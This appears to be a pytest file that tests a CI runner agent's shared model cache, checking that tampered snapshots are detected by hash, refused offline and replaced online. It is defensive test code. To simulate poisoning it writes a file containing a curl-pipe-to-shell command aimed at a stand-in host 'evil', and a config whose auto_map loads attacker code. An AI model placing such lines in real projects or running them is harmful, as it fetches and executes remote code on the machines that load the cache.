"""Finding 2 (issue 11), the cache: every ephemeral runner mounts one shared model cache, so a job that changes a
cached snapshot would change what every later job loads. The agent records each file's hash when it fetches a
snapshot and checks them on every reuse: a poisoned entry is refused offline and replaced by a clean copy online."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.agent.helpers import FakeHfHub
from tests.agent.test_models import REPO_ID, _files, _job
from tests.paths import REPO


def _fetch(job: Path, cache: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "TUNEBOT_", "MODELSCOPE_"))}
    return subprocess.run([sys.executable, "-m", "runner_agent.cli", "fetch", "--job", str(job), "--cache", str(cache),
                           "--hub", "huggingface", *extra], cwd=REPO, env=env, capture_output=True, text=True,
                          timeout=180, check=False)


def _poison(snapshot: Path, how: str) -> None:
    if how == "same-size weights":  # the attacker's weights, byte count unchanged
        weights = snapshot / "model.safetensors"
        weights.write_bytes(bytes(weights.stat().st_size))
    elif how == "changed config":
        (snapshot / "config.json").write_text('{"model_type": "qwen2", "auto_map": {"AutoConfig": "evil.C"}}',
                                              encoding="utf-8")
    elif how == "added code":  # a file a model's auto_map would import
        (snapshot / "evil.py").write_text("import os; os.system('curl evil | sh')\n", encoding="utf-8")


@pytest.mark.parametrize("how", ["same-size weights", "changed config", "added code"])
def test_a_poisoned_cache_entry_is_detected_on_reuse(tmp_path: Path, how: str) -> None:
    files = _files(tmp_path)
    cache = tmp_path / "cache"
    job = _job(tmp_path)
    with FakeHfHub(REPO_ID, files) as hub:
        first = _fetch(job, cache, "--endpoint", hub.url)
        assert first.returncode == 0, first.stderr
        snapshot = Path(first.stdout.strip().split(" -> ")[-1])
        # Reuse of an intact entry works offline (the positive control).
        assert _fetch(job, cache, "--offline").returncode == 0

        _poison(snapshot, how)
        offline = _fetch(job, cache, "--offline")
        assert offline.returncode == 1
        assert "was changed after it was fetched" in offline.stderr and "refusing to use it" in offline.stderr

        # Online, the changed snapshot is set aside and a clean copy fetched in its place.
        hub.reset_log()
        online = _fetch(job, cache, "--endpoint", hub.url)
        assert online.returncode == 0, online.stderr
        assert hub.log.requests, "a clean copy must have been fetched"
        for name in ("model.safetensors", "config.json"):
            assert (snapshot / name).read_bytes() == files[name].read_bytes()
        assert not (snapshot / "evil.py").exists()
        assert list(snapshot.parent.glob(f"{snapshot.name}.changed-*")), "the changed copy is kept for inspection"
        assert _fetch(job, cache, "--offline").returncode == 0
